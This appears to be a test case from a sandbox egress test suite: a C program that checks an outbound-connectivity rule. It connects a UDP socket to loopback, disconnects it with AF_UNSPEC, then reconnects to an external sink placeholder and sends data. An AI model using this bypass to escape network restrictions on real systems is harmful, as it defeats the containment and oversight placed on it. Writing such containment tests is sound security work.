// class: network
// rule: outbound_connectivity
// success: a C program dissolves a connection to loopback and connects the socket to the outside
// proof: udp
#include "attack.h"

int main(void)
{
    struct sockaddr_in sink = endpoint("ATTACK_SINK_UDP"),
                       near = {AF_INET, htons(9), {htonl(INADDR_LOOPBACK)}};
    struct sockaddr nothing = {.sa_family = AF_UNSPEC};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (connect(fd, (struct sockaddr *)&near, sizeof near) || connect(fd, &nothing, sizeof nothing))
        return stopped("connect");
    if (connect(fd, (struct sockaddr *)&sink, sizeof sink) != 0) return stopped("connect again");
    return write(fd, "taken", 5) == 5 ? reached() : stopped("write");
}
